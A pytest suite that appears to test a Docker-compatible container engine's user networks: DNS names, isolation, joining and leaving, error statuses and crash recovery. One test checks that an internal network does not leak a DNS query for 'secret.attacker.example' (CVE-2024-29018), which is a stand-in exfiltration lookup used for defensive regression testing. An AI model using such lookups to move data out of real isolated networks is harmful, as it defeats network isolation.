"""Networks that users make: names, isolation, joining and leaving, and errors, with Docker's own clients.

`NARU_TEST_ENGINE=docker` runs all but the tests of what Naru promises beyond Docker against Debian's Docker.
"""

import json
import os
import random
import re
import threading
import time

import pytest
from testkit.api import Api, ApiError
from testkit.engine import DOCKER_20, DOCKER_28, NEWEST_DOCKER

CLIENTS = {name: path for name, path in (("cli20", DOCKER_20), ("cli28", DOCKER_28)) if os.path.exists(path)}
IS_DOCKER = os.environ.get("NARU_TEST_ENGINE") == "docker"
beyond_docker = pytest.mark.skipif(IS_DOCKER, reason="Docker does not promise this")
SLEEP = ["sleep", "600"]


@pytest.fixture(params=sorted(CLIENTS))
def docker(request, naru):
    """A Docker command line against the engine; fails the test when the command fails, unless told otherwise."""

    def run(*arguments, check=True):
        result = naru.client(*arguments, program=CLIENTS[request.param])
        assert not check or result.returncode == 0, f"docker {' '.join(arguments)}: {result.stderr}"
        return result.stdout.strip() if check else result

    run.name = request.param
    yield run
    clean(naru)


@pytest.fixture
def api(naru):
    client = Api(naru.socket)
    yield client
    client.close()
    clean(naru)


def clean(engine):
    engine.remove_all_containers()
    engine.client("network", "prune", "-f", program=NEWEST_DOCKER)


def until(check, seconds=40):
    deadline = time.monotonic() + seconds
    while not (result := check()):
        assert time.monotonic() < deadline, "never happened"
        time.sleep(0.05)
    return result


def address(docker, container, network):
    return json.loads(docker("inspect", container))[0]["NetworkSettings"]["Networks"][network]["IPAddress"]


def resolve(docker, container, name):
    """Returns the address that the C library finds for a name, or None."""
    result = docker("exec", container, "python3", "-c", f"import socket; print(socket.gethostbyname({name!r}))", check=False)
    return result.stdout.strip() if result.returncode == 0 else None


# A port where nobody listens answers too: that it is closed. One image has `ping`, the other Python.
REACH = (
    "command -v ping >/dev/null && exec ping -c1 -W1 $0; exec python3 -c \"import socket, sys\n"
    "try: socket.create_connection((sys.argv[1], 9), 1)\n"
    "except ConnectionRefusedError: pass\n"
    "except OSError: sys.exit(1)\" $0")


def can_reach(docker, container, target):
    return docker("exec", container, "sh", "-c", REACH, target, check=False).returncode == 0


def test_life_of_a_network(docker):
    made = docker("network", "create", "--label", "a=b", "blue")
    assert re.fullmatch("[0-9a-f]{64}", made)
    assert docker("network", "inspect", "-f", "{{.Driver}} {{.Scope}} {{.Internal}} {{.Labels.a}}", "blue") == "bridge local false b"
    assert docker("network", "ls", "-q", "--no-trunc", "-f", "name=blue") == made
    assert docker("network", "ls", "-q", "--no-trunc", "-f", "label=a=b") == made
    assert docker("network", "ls", "-q", "-f", "label=a=c") == ""
    assert set(docker("network", "ls", "-f", "type=builtin", "--format", "{{.Name}}").split()) == {"bridge", "host", "none"}
    assert docker("network", "ls", "-f", "type=custom", "--format", "{{.Name}} {{.Driver}}") == "blue bridge"
    assert docker("network", "inspect", "-f", "{{.Name}}", made[:12]) == "blue"
    config = json.loads(docker("network", "inspect", "blue"))[0]["IPAM"]["Config"]
    assert config[0]["Gateway"] == config[0]["Subnet"].split("/")[0][:-1] + "1"
    again = docker("network", "create", "blue", check=False)
    assert again.returncode == 1 and "network with name blue already exists" in again.stderr
    assert docker("network", "rm", "blue") == "blue"
    gone = docker("network", "inspect", "blue", check=False)
    assert gone.returncode == 1 and "blue" in gone.stderr
    gone = docker("network", "rm", "blue", check=False)
    assert gone.returncode == 1 and re.search("(?i)no such network|not found", gone.stderr)


def test_names_aliases_and_reverse(docker):
    docker("network", "create", "blue")
    docker("run", "-d", "--name", "db", "--network", "blue", "--network-alias", "database", "busybox:test", *SLEEP)
    web = docker("run", "-d", "--name", "web", "--network", "blue", "--network-alias", "shared", "debian:test", *SLEEP)
    docker("run", "-d", "--name", "web2", "--network", "blue", "--network-alias", "shared", "busybox:test", *SLEEP)
    db = address(docker, "db", "blue")
    for name in ("db", "DB", "database", "db.blue"):
        assert resolve(docker, "web", name) == db, name
    assert resolve(docker, "web", web[:12]) == address(docker, "web", "blue")
    assert resolve(docker, "web", "nobody") is None
    shared = {address(docker, name, "blue") for name in ("web", "web2")}
    found = docker("exec", "web", "python3", "-c", "import socket; print(*socket.gethostbyname_ex('shared')[2])")
    assert set(found.split()) == shared
    reverse = docker("exec", "web", "python3", "-c", f"import socket; print(socket.gethostbyaddr('{db}')[0])")
    assert reverse == "db.blue"
    resolv = docker("exec", "web", "cat", "/etc/resolv.conf")
    assert "nameserver 127.0.0.11" in resolv and "ndots:0" in resolv
    assert can_reach(docker, "web", "db")
    # musl, glibc and busybox ask differently; this is busybox.
    assert can_reach(docker, "db", "database")
    docker("rm", "-f", "db")
    assert resolve(docker, "web", "db") is None


def test_names_by_tcp(docker):
    docker("network", "create", "blue")
    docker("run", "-d", "--name", "db", "--network", "blue", "busybox:test", *SLEEP)
    ask = (
        "import socket, struct\n"
        "q = b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x02db\\x00\\x00\\x01\\x00\\x01'\n"
        "s = socket.create_connection(('127.0.0.11', 53), 5)\n"
        "s.sendall(struct.pack('!H', len(q)) + q)\n"
        "n = struct.unpack('!H', s.recv(2))[0]\n"
        "a = s.recv(n)\n"
        "print(socket.inet_ntoa(a[-4:]))\n")
    found = docker("run", "--rm", "--network", "blue", "debian:test", "python3", "-c", ask)
    assert found == address(docker, "db", "blue")


def test_default_network_has_no_names(docker):
    docker("run", "-d", "--name", "one", "busybox:test", *SLEEP)
    result = docker("run", "--rm", "busybox:test", "ping", "-c1", "-W1", "one", check=False)
    assert result.returncode != 0
    assert "127.0.0.11" not in docker("exec", "one", "cat", "/etc/resolv.conf")


def test_networks_are_isolated(docker):
    docker("network", "create", "blue")
    docker("network", "create", "red")
    for network in ("blue", "red"):
        docker("run", "-d", "--name", "in-" + network, "--network", network, "debian:test", *SLEEP)
    docker("run", "-d", "--name", "in-default", "debian:test", *SLEEP)
    assert resolve(docker, "in-blue", "in-red") is None
    red = address(docker, "in-red", "red")
    assert not can_reach(docker, "in-blue", red)
    assert not can_reach(docker, "in-default", red)
    docker("network", "connect", "red", "in-blue")
    assert can_reach(docker, "in-blue", "in-red")
    docker("network", "disconnect", "red", "in-blue")
    assert not can_reach(docker, "in-blue", red)


def test_connect_and_disconnect_while_running(docker):
    docker("network", "create", "blue")
    docker("network", "create", "--subnet", "10.77.0.0/24", "red")
    docker("run", "-d", "--name", "web", "--network", "blue", "debian:test", *SLEEP)
    docker("run", "-d", "--name", "db", "--network", "red", "busybox:test", *SLEEP)
    docker("network", "connect", "--alias", "site", "--ip", "10.77.0.99", "red", "web")
    networks = json.loads(docker("inspect", "web"))[0]["NetworkSettings"]["Networks"]
    assert networks["red"]["IPAddress"] == "10.77.0.99" and set(networks) == {"blue", "red"}
    assert "site" in networks["red"]["Aliases"]
    assert networks["red"]["IPAMConfig"]["IPv4Address"] == "10.77.0.99"
    assert can_reach(docker, "web", "db") and can_reach(docker, "db", "site")
    links = docker("exec", "web", "cat", "/proc/net/dev")
    assert "eth0" in links and "eth1" in links
    assert "10.77.0.99" in docker("exec", "web", "cat", "/etc/hosts")
    containers = json.loads(docker("network", "inspect", "red"))[0]["Containers"]
    assert sorted(entry["Name"] for entry in containers.values()) == ["db", "web"]
    twice = docker("network", "connect", "red", "web", check=False)
    assert twice.returncode == 1 and "endpoint with name web already exists in network red" in twice.stderr
    # Networks stay over a restart.
    docker("restart", "-t0", "web")
    assert address(docker, "web", "red") == "10.77.0.99"
    assert can_reach(docker, "db", "site")
    docker("network", "disconnect", "red", "web")
    assert set(json.loads(docker("inspect", "web"))[0]["NetworkSettings"]["Networks"]) == {"blue"}
    assert "10.77.0.99" not in docker("exec", "web", "cat", "/etc/hosts")
    assert resolve(docker, "web", "db") is None
    again = docker("network", "disconnect", "red", "web", check=False)
    assert again.returncode == 1 and "is not connected to" in again.stderr


def test_container_on_the_default_network_learns_names_when_it_joins_another(docker):
    docker("network", "create", "blue")
    docker("run", "-d", "--name", "db", "--network", "blue", "busybox:test", *SLEEP)
    docker("run", "-d", "--name", "web", "debian:test", *SLEEP)
    docker("network", "connect", "blue", "web")
    assert resolve(docker, "web", "db") == address(docker, "db", "blue")
    assert resolve(docker, "web", "nobody") is None
    docker("network", "disconnect", "bridge", "web")
    assert can_reach(docker, "web", "db")
    assert set(json.loads(docker("inspect", "web"))[0]["NetworkSettings"]["Networks"]) == {"blue"}


def test_networks_of_a_stopped_container(docker):
    docker("network", "create", "blue")
    docker("create", "--name", "web", "--network", "blue", "busybox:test", *SLEEP)
    docker("network", "create", "red")
    docker("network", "connect", "--alias", "site", "red", "web")
    docker("start", "web")
    docker("run", "-d", "--name", "db", "--network", "red", "debian:test", *SLEEP)
    assert resolve(docker, "db", "site") == address(docker, "web", "red")
    docker("stop", "-t0", "web")
    assert resolve(docker, "db", "site") is None
    docker("network", "disconnect", "red", "web")
    docker("start", "web")
    assert resolve(docker, "db", "web") is None


def test_internal_network_has_no_way_out(docker, naru):
    docker("network", "create", "--internal", "inside")
    docker("run", "-d", "--name", "one", "--network", "inside", "debian:test", *SLEEP)
    docker("run", "-d", "--name", "two", "--network", "inside", "debian:test", *SLEEP)
    assert can_reach(docker, "one", "two")
    route = docker("exec", "one", "cat", "/proc/net/route").splitlines()[1:]
    # Debian's Docker leaves a route that leads nowhere.
    assert IS_DOCKER or all(line.split()[1] != "00000000" for line in route), route
    assert docker("network", "inspect", "-f", "{{.Internal}}", "inside") == "true"


@beyond_docker
def test_internal_network_leaks_no_question(docker, naru):
    """A question for an outside name must not leave (CVE-2024-29018); Debian's Docker still lets it."""
    docker("network", "create", "--internal", "inside")
    serve = (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.bind(('127.0.0.1', 53))\n"
        "s.settimeout(3)\n"
        "print('up', flush=True)\n"
        "try: print(s.recv(999))\n"
        "except OSError: print('quiet')\n")
    import subprocess
    server = subprocess.Popen(naru.scope.command("python3", "-c", serve), stdout=subprocess.PIPE, text=True)
    try:
        assert server.stdout.readline() == "up\n"
        result = docker("run", "--rm", "--network", "inside", "--dns", "127.0.0.1", "debian:test", "python3", "-c",
                        "import socket; socket.gethostbyname('secret.attacker.example')", check=False)
        assert result.returncode != 0
        assert server.stdout.read().strip() == "quiet"
    finally:
        server.kill()
        server.wait()


def test_questions_go_out_to_the_named_server(docker, naru):
    """A name server in another container, asked by --dns; answers with 198.51.100.9 to everything."""
    serve = (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.bind(('0.0.0.0', 53))\n"
        "while True:\n"
        "    q, who = s.recvfrom(999)\n"
        "    end = q.index(b'\\0', 12) + 5\n"
        "    if q[end-4:end-2] == b'\\0\\1':\n"
        "        s.sendto(q[:2] + b'\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0' + q[12:end] + b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x1e\\0\\4' + bytes([198, 51, 100, 9]), who)\n"
        "    else:\n"
        "        s.sendto(q[:2] + b'\\x81\\x80\\0\\1\\0\\0\\0\\0\\0\\0' + q[12:end], who)\n")
    docker("network", "create", "--subnet", "10.78.0.0/24", "blue")
    # A container may serve DNS itself: 127.0.0.11 does not take port 53 from it.
    docker("run", "-d", "--name", "dns", "--network", "blue", "--ip", "10.78.0.53", "debian:test", "python3", "-c", serve)
    docker("run", "-d", "--name", "web", "--network", "blue", "--dns", "10.78.0.53", "--dns-search", "corp.example",
           "--dns-option", "timeout:3", "debian:test", *SLEEP)
    assert until(lambda: resolve(docker, "web", "www.example.org") == "198.51.100.9")
    assert resolve(docker, "web", "dns") == "10.78.0.53"
    resolv = docker("exec", "web", "cat", "/etc/resolv.conf")
    assert "search corp.example" in resolv and "timeout:3" in resolv and "nameserver 127.0.0.11" in resolv


def test_own_addresses_and_hardware_address(docker):
    docker("network", "create", "--subnet", "10.79.0.0/16", "--ip-range", "10.79.5.0/24", "--gateway", "10.79.0.254",
           "--aux-address", "router=10.79.5.1", "-o", "com.docker.network.bridge.name=blue-test", "-o",
           "com.docker.network.driver.mtu=1400", "blue")
    docker("run", "-d", "--name", "one", "--network", "blue", "busybox:test", *SLEEP)
    assert address(docker, "one", "blue") in ("10.79.5.0", "10.79.5.2")
    # The newer command line asks for a newer API to say this than Debian's Docker has.
    mac = [] if IS_DOCKER and docker.name == "cli28" else ["--mac-address", "02:00:00:00:00:77"]
    docker("run", "-d", "--name", "two", "--network", "blue", "--ip", "10.79.9.9", *mac, "--link-local-ip", "169.254.7.7",
           "busybox:test", *SLEEP)
    inside = docker("exec", "two", "ip", "addr", "show", "eth0")
    for part in ("10.79.9.9/16", "169.254.7.7", "mtu 1400", *mac[1:]):
        assert part in inside, inside
    assert "default via 10.79.0.254" in docker("exec", "two", "ip", "route")
    config = json.loads(docker("network", "inspect", "blue"))[0]["IPAM"]["Config"][0]
    assert config == {"Subnet": "10.79.0.0/16", "IPRange": "10.79.5.0/24", "Gateway": "10.79.0.254", "AuxiliaryAddresses": {"router": "10.79.5.1"}}


def test_published_port_on_a_user_network(docker, naru):
    docker("network", "create", "blue")
    docker("network", "create", "red")
    docker("run", "-d", "--name", "web", "--network", "red", "-p", "18210:80", "busybox:test", "sh", "-c",
           "echo served >/index; httpd -f -p 80 -h /")

    def fetch():
        return naru.scope.run("curl", "-s", "-m", "2", "http://127.0.0.1:18210/index").stdout == "served\n"

    until(fetch)
    # The way out changes to the network that comes first; the port follows.
    docker("network", "connect", "blue", "web")
    until(fetch)
    docker("network", "disconnect", "red", "web")
    until(fetch)
    assert docker("port", "web", "80").splitlines()[0].endswith(":18210")


def test_user_network_links(docker):
    docker("network", "create", "blue")
    docker("run", "-d", "--name", "db", "--network", "blue", "busybox:test", *SLEEP)
    docker("run", "-d", "--name", "web", "--network", "blue", "--link", "db:database", "debian:test", *SLEEP)
    docker("run", "-d", "--name", "other", "--network", "blue", "debian:test", *SLEEP)
    assert resolve(docker, "web", "database") == address(docker, "db", "blue")
    assert resolve(docker, "other", "database") is None


def test_legacy_links_on_the_default_network(docker):
    docker("run", "-d", "--name", "db", "--expose", "5432", "-e", "SECRET=x", "busybox:test", *SLEEP)
    text = docker("run", "--rm", "--name", "web", "--link", "db:my-db", "busybox:test", "sh", "-c", "cat /etc/hosts; env")
    db = address(docker, "db", "bridge")
    for wanted in (f"{db}\tmy-db ", "MY_DB_NAME=/web/my-db", f"MY_DB_PORT=tcp://{db}:5432", f"MY_DB_PORT_5432_TCP_ADDR={db}",
                   "MY_DB_PORT_5432_TCP_PROTO=tcp", "MY_DB_ENV_SECRET=x"):
        assert wanted in text, text
    result = docker("run", "--rm", "--link", "nobody:x", "busybox:test", "true", check=False)
    assert result.returncode == 125 and "nobody" in result.stderr


def test_extra_hosts(docker):
    docker("network", "create", "blue")
    gateway = docker("network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", "bridge")
    text = docker("run", "--rm", "--network", "blue", "--add-host", "host.docker.internal:host-gateway", "--add-host",
                  "x.example:192.0.2.4", "busybox:test", "cat", "/etc/hosts")
    assert f"{gateway}\thost.docker.internal" in text and "192.0.2.4\tx.example" in text


def test_prune_takes_what_nobody_uses(docker):
    docker("network", "create", "--label", "keep=1", "kept")
    docker("network", "create", "used")
    docker("network", "create", "unused")
    docker("run", "-d", "--name", "web", "--network", "used", "busybox:test", *SLEEP)
    text = docker("network", "prune", "-f", "--filter", "label!=keep")
    assert text.split() == ["Deleted", "Networks:", "unused"]
    assert set(docker("network", "ls", "-f", "type=custom", "--format", "{{.Name}}").split()) == {"kept", "used"}


def status_of(call):
    with pytest.raises(ApiError) as caught:
        call()
    return caught.value.status


def test_errors_have_dockers_status(api):
    def create(name, **fields):
        return lambda: api.call("POST", "/networks/create", {"Name": name, "CheckDuplicate": True, **fields})

    def pool(subnet, **more):
        return {"IPAM": {"Config": [{"Subnet": subnet, **more}]}}

    create("blue", **pool("10.80.0.0/24"))()
    assert status_of(create("blue")) == 409
    assert status_of(create("red", **pool("10.80.0.128/25"))) == 403
    # Debian's Docker takes its own client's mistake for the server's.
    assert status_of(create("red", **pool("nonsense"))) in ((400, 500) if IS_DOCKER else (400,))
    assert status_of(create("red", Driver="nonsense")) == 404
    assert status_of(create("host")) == 403
    assert status_of(create("red", Driver="host")) == 403
    assert status_of(lambda: api.call("DELETE", "/networks/bridge")) == 403
    assert status_of(lambda: api.call("DELETE", "/networks/nobody")) == 404
    assert status_of(lambda: api.call("GET", "/networks/nobody")) == 404
    first = api.create(SLEEP, name="first", host={"NetworkMode": "blue"},
                       NetworkingConfig={"EndpointsConfig": {"blue": {"IPAMConfig": {"IPv4Address": "10.80.0.9"}}}})
    api.start(first)
    assert status_of(lambda: api.call("DELETE", "/networks/blue")) == 403
    second = api.create(SLEEP, name="second", host={"NetworkMode": "blue"},
                        NetworkingConfig={"EndpointsConfig": {"blue": {"IPAMConfig": {"IPv4Address": "10.80.0.9"}}}})
    assert status_of(lambda: api.start(second)) == 403
    assert api.inspect(second)["State"]["Running"] is False
    connect = {"Container": "first", "EndpointConfig": {}}
    assert status_of(lambda: api.call("POST", "/networks/blue/connect", connect)) == 403
    assert status_of(lambda: api.call("POST", "/networks/nobody/connect", connect)) == 404
    assert status_of(lambda: api.call("POST", "/networks/blue/connect", {"Container": "nobody"})) == 404
    missing = api.create(SLEEP, host={"NetworkMode": "missing"})
    assert status_of(lambda: api.start(missing)) == 404
    api.remove(missing)
    # Nothing was half made: the address is free once its holder is gone.
    api.remove(first)
    api.start(second)
    assert api.inspect(second)["NetworkSettings"]["Networks"]["blue"]["IPAddress"] == "10.80.0.9"
    api.remove(second)
    api.call("DELETE", "/networks/blue")


def test_python_sdk(naru):
    import docker as sdk
    client = sdk.DockerClient(base_url="unix://" + naru.socket, version="1.41")
    try:
        pool = sdk.types.IPAMPool(subnet="10.81.0.0/24", gateway="10.81.0.1")
        blue = client.networks.create("blue", driver="bridge", ipam=sdk.types.IPAMConfig(pool_configs=[pool]), labels={"x": "y"})
        assert [network.name for network in client.networks.list(filters={"label": "x=y"})] == ["blue"]
        db = client.containers.run("busybox:test", SLEEP, detach=True, name="db", network="blue")
        web = client.containers.run("busybox:test", SLEEP, detach=True, name="web")
        blue.connect(web, aliases=["site"], ipv4_address="10.81.0.50")
        assert web.exec_run(["ping", "-c1", "-W2", "db"]).exit_code == 0
        assert db.exec_run(["ping", "-c1", "-W2", "site"]).exit_code == 0
        blue.reload()
        assert {container.name for container in blue.containers} == {"db", "web"}
        blue.disconnect(web)
        assert db.exec_run(["ping", "-c1", "-W1", "site"]).exit_code != 0
        with pytest.raises(sdk.errors.APIError) as caught:
            blue.remove()
        assert caught.value.status_code == 403
        db.remove(force=True)
        blue.remove()
        assert client.networks.list(names=["blue"]) == []
    finally:
        client.close()
        clean(naru)


LOOK_UP = (
    "import socket, time\n"
    "good = bad = 0\n"
    "while True:\n"
    "    try:\n"
    "        socket.gethostbyname('db'); good += 1\n"
    "    except OSError as error:\n"
    "        bad += 1; print('failed', error, flush=True)\n"
    "    if good % 50 == 0: print('good', good, flush=True)\n"
    "    time.sleep(0.002)\n")


@beyond_docker
@pytest.mark.seconds(180)
def test_names_are_found_while_the_daemon_is_killed(images):
    """The daemon dies by SIGKILL at random moments; no look-up fails, and what it knows stays right."""
    from testkit.engine import Naru
    engine = Naru()
    try:
        engine.start()
        engine.load(images + "/busybox.tar")
        engine.load(images + "/debian-oci.tar")
        engine.client("network", "create", "blue")
        engine.client("run", "-d", "--name", "db", "--network", "blue", "busybox:test", *SLEEP)
        made = engine.client("run", "-d", "--name", "web", "--network", "blue", "debian:test", "python3", "-c", LOOK_UP)
        assert made.returncode == 0, made.stderr
        before = engine.client("inspect", "-f", "{{.NetworkSettings.Networks.blue.IPAddress}}", "db").stdout
        for turn in range(20):
            time.sleep(random.uniform(0, 0.15))
            engine.kill9()
            time.sleep(random.uniform(0, 0.1))
            engine.start()
            if turn % 5 == 0:
                extra = engine.client("run", "--rm", "--network", "blue", "busybox:test", "ping", "-c1", "-W2", "db")
                assert extra.returncode == 0, extra.stdout + extra.stderr
        text = engine.client("logs", "web").stdout
        assert "failed" not in text, text
        assert int(text.split()[-1]) > 100
        assert engine.client("inspect", "-f", "{{.NetworkSettings.Networks.blue.IPAddress}}", "db").stdout == before
        engine.remove_all_containers()
        assert engine.client("network", "rm", "blue").returncode == 0
        engine.stop()
        assert engine.settled_leftovers() == []
    finally:
        engine.close()


@beyond_docker
def test_a_killed_resolver_is_replaced(images):
    from testkit.engine import Naru, describe_process, kill_quietly
    engine = Naru()
    try:
        engine.start()
        engine.load(images + "/busybox.tar")
        engine.client("network", "create", "blue")
        for name in ("db", "web"):
            engine.client("run", "-d", "--name", name, "--network", "blue", "busybox:test", *SLEEP)

        def resolvers():
            return [pid for pid in engine.processes() if "naru-resolver" in describe_process(pid)]

        [first] = resolvers()
        kill_quietly(first)
        until(lambda: resolvers() not in ([], [first]))
        until(lambda: engine.client("exec", "web", "ping", "-c1", "-W1", "db").returncode == 0)
        # Containers that end while no daemon is there leave nothing behind.
        engine.kill9()
        pids = engine.processes()
        for pid in pids:
            if describe_process(pid).startswith("sleep"):
                kill_quietly(pid)
        until(lambda: resolvers() == [], 20)
    finally:
        engine.close()


@beyond_docker
def test_a_place_joined_while_running_survives_the_daemon(fresh_naru):
    run = fresh_naru.client
    for network in ("blue", "red"):
        run("network", "create", network)
    for name, network in (("web", "blue"), ("db", "red")):
        assert run("run", "-d", "--name", name, "--network", network, "busybox:test", *SLEEP).returncode == 0
    assert run("network", "connect", "--alias", "site", "red", "web").returncode == 0
    networks = run("inspect", "-f", "{{json .NetworkSettings.Networks}}", "web").stdout
    fresh_naru.kill9()
    fresh_naru.start()
    assert json.loads(run("inspect", "-f", "{{json .NetworkSettings.Networks}}", "web").stdout) == json.loads(networks)
    assert run("exec", "db", "ping", "-c1", "-W2", "site").returncode == 0
    # Its address is taken still, and free when it has left.
    assert run("network", "rm", "red").returncode != 0
    assert run("network", "disconnect", "red", "web").returncode == 0
    fresh_naru.kill9()
    fresh_naru.start()
    assert "red" not in json.loads(run("inspect", "-f", "{{json .NetworkSettings.Networks}}", "web").stdout)
    assert run("exec", "db", "ping", "-c1", "-W1", "site").returncode != 0
    fresh_naru.remove_all_containers()
    assert run("network", "rm", "blue", "red").returncode == 0


@beyond_docker
def test_networks_survive_the_daemon_and_the_bridge(images):
    from testkit.engine import Naru
    engine = Naru()
    try:
        engine.start()
        engine.load(images + "/busybox.tar")
        engine.client("network", "create", "--subnet", "10.82.0.0/24", "--internal", "--label", "a=b", "blue")
        before = engine.client("network", "inspect", "blue").stdout
        engine.kill9()
        engine.start()
        assert engine.client("network", "inspect", "blue").stdout == before
        # As after a reboot: nothing of it is left but the record.
        engine.stop()
        assert not [name for name in engine.scope.links() if name.startswith("br-")]
        engine.start()
        assert engine.client("network", "inspect", "blue").stdout == before
        assert engine.client("run", "--rm", "--network", "blue", "busybox:test", "true").returncode == 0
    finally:
        engine.close()


def test_many_join_and_leave_at_once(api):
    api.call("POST", "/networks/create", {"Name": "crowd"})
    failures, addresses = [], []

    def one(number):
        own = Api(api.path)
        try:
            container = own.create(SLEEP, name=f"crowd-{number}", host={"NetworkMode": "crowd"})
            own.start(container)
            addresses.append(own.inspect(container)["NetworkSettings"]["Networks"]["crowd"]["IPAddress"])
            output, code = own.exec(container, ["ping", "-c1", "-W2", f"crowd-{number}"])
            if code:
                failures.append(output)
        except Exception as error:
            failures.append(error)
        finally:
            own.close()

    threads = [threading.Thread(target=one, args=(number,)) for number in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == [] and len(set(addresses)) == 12
    assert status_of(lambda: api.call("DELETE", "/networks/crowd")) == 403
